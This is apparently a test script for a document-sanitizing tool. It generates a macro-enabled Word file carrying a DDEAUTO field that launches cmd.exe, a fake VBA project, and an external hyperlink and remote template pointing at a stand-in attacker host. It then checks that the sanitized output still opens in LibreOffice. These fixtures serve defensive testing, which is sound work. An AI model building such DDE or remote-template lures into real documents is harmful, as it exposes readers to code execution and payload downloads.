#!/bin/sh
# cdr-libreoffice: sanitized OOXML still opens in an office suite.  Office
# files from the corpus and one generated docx with a macro project, a
# DDEAUTO field, a remote template and an external hyperlink are
# sanitized with 'kyojin file sanitize', then LibreOffice headless converts
# each output to PDF.  scripts/setup installs LibreOffice (the -nogui
# packages); the test is skipped (exit 77) only where soffice is missing.
. "$(dirname "$0")/lib.sh"

SOFFICE=$(command -v soffice || command -v libreoffice || true)
[ -n "$SOFFICE" ] || { echo "soffice not installed: skipped"; exit 77; }

python3 - <<'PY'
import zipfile
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
      '</Types>')
rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
        '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml"/>'
        '</Relationships>' % (P, R))
doc = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="%s" xmlns:r="%s"><w:body>'
       '<w:p><w:r><w:t>KYOJIN-SANITIZED-TEXT</w:t></w:r></w:p>'
       '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>'
       '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
       '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field result</w:t></w:r>'
       '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>' % (W, R))
drels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
         '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
         '<Relationship Id="rIdS" Type="%s/settings" Target="settings.xml"/>'
         '<Relationship Id="rIdH" Type="%s/hyperlink" Target="http://evil.example/" TargetMode="External"/>'
         '</Relationships>' % (P, R, R))
settings = ('<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="%s" xmlns:r="%s">'
            '<w:attachedTemplate r:id="rIdT"/></w:settings>' % (W, R))
srels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
         '<Relationship Id="rIdT" Type="%s/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
         '</Relationships>' % (P, R))
with zipfile.ZipFile("generated.docm", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", ct)
    z.writestr("_rels/.rels", rels)
    z.writestr("word/document.xml", doc)
    z.writestr("word/_rels/document.xml.rels", drels)
    z.writestr("word/settings.xml", settings)
    z.writestr("word/_rels/settings.xml.rels", srels)
    z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not a real project")
PY

inputs="generated.docm"
if [ -n "$CORPUS" ] && [ -d "$CORPUS/office/oletools" ]; then
	o="$CORPUS/office/oletools"
	inputs="$inputs $o/msodde/dde-test.docx $o/msodde/dde-test.xlsx $o/oleobj/embedded-simple-2007.docm
		$o/oleobj/embedded-simple-2007.pptx $o/oleobj/external_link/sample_with_external_link_to_doc.xlsx"
fi
mkdir -p sanitized pdf profile
for f in $inputs; do
	[ -f "$f" ] || continue
	run 0 file sanitize "$f" --out-dir sanitized
done
n=0
for f in sanitized/*; do
	case "$f" in *.report.json) continue ;; esac
	n=$((n + 1))
	b=$(basename "$f")
	# A private profile (no first-start wizard, no shared lock) and one
	# output directory per file: dde-test.docx and dde-test.xlsx both
	# become dde-test.pdf.
	timeout 120 "$SOFFICE" -env:UserInstallation=file://"$T/profile" --headless --norestore \
		--convert-to pdf --outdir "pdf/$n" "$f" >"$T/lo.log" 2>&1
	[ -s "pdf/$n/${b%.*}.pdf" ] || { cat "$T/lo.log" >&2; fail "LibreOffice could not open $b"; }
done
[ "$n" -gt 0 ] || fail "nothing was sanitized"
# The text, the hyperlink's text and the DDE field's shown result
# survived sanitizing and are what LibreOffice reads.
timeout 120 "$SOFFICE" -env:UserInstallation=file://"$T/profile" --headless --norestore \
	--convert-to txt:Text --outdir txt sanitized/generated.docx >"$T/lo.log" 2>&1
for w in KYOJIN-SANITIZED-TEXT "link text" "field result"; do
	grep -q "$w" txt/generated.txt || { cat txt/generated.txt >&2; fail "text lost: $w"; }
done
exit 0
